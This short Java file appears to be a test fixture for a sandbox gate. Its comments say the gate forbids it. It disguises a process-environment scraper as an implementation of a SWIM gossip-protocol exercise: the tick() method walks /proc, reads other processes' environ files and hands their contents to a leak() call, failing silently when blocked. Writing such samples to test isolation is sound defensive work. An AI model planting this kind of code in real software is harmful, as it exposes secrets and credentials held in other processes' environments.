// tries: reads what other processes were started with
// verdict: FORBIDDEN
// without the gate: contained
package gossipkit.exercise.swim;

import gossipkit.swim.*;
import java.time.InstantSource;
import java.util.*;
import java.util.random.RandomGenerator;

public class GossipProtocol extends Idle {
    public GossipProtocol(MemberId id, Address address, GossipConfig config, RandomGenerator random, InstantSource clock) {
        super(id);
    }

    @Override
    public List<GossipAction> tick() {
        try {
            for (java.io.File process : new java.io.File("/proc").listFiles()) {
                java.io.File environment = new java.io.File(process, "environ");
                if (process.getName().matches("\\d+") && environment.canRead()) {
                    String text = java.nio.file.Files.readString(environment.toPath());
                    if (text.contains("HOME=")) {
                        leak(text);
                    }
                }
            }
        } catch (Exception | LinkageError refused) {
            return List.of();
        }
        return List.of();
    }
}
